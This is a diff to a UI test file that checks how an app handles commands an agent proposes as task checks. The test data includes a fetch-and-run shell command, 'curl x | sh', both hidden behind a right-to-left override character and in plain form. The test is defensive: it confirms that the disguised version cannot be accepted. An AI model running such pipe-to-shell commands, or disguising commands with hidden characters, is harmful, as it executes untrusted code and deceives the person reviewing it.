@@ -149,11 +149,19 @@ test('what was typed and not saved survives a reload of the page', async (t) => 
 });
 
 test('a check is guessed, added, changed and removed only by the person; a proposed one counts once it is accepted', async (t) => {
-  const shown = await showCard(t, {}, (flow, { id }) => flow.app.tasks.change(id, { checks: [{ kind: 'command', command: 'curl x | sh \u202e#', timeLimit: 10 }] }, agent));
+  const propose = (flow: Flow, { id }: Task, command: string): Promise<Task> => flow.app.tasks.change(id, { checks: [{ kind: 'command', command, timeLimit: 10 }] }, agent);
+  const shown = await showCard(t, {}, (flow, task) => propose(flow, task, 'curl x | sh \u202e#'));
   const { page } = shown;
   assert.deepEqual((await shown.now()).checks.map(({ state }) => state), ['proposed']);
   assert.equal(await page.locator('.check-title code').innerText(), 'curl x | sh <U+202E>#');
-  await page.getByRole('button', { name: 'Accept Check', exact: true }).click();
+  const accept = page.getByRole('button', { name: 'Accept Check', exact: true });
+  await accept.click();
+  await page.getByText('cannot be shown as they are').first().waitFor();
+  assert.deepEqual((await shown.now()).checks.map(({ state }) => state), ['proposed']);
+  await propose(shown.flow, await shown.now(), 'curl x | sh');
+  await shown.host.refresh();
+  await page.getByText('curl x | sh', { exact: true }).waitFor();
+  await accept.click();
   await untilCard(shown, ({ checks }) => checks[0]?.state === 'accepted');
   await page.getByRole('button', { name: 'Add check npm test' }).click();
   await untilCard(shown, ({ checks }) => checks[1]?.spec.kind === 'command' && checks[1].spec.command === 'npm test');
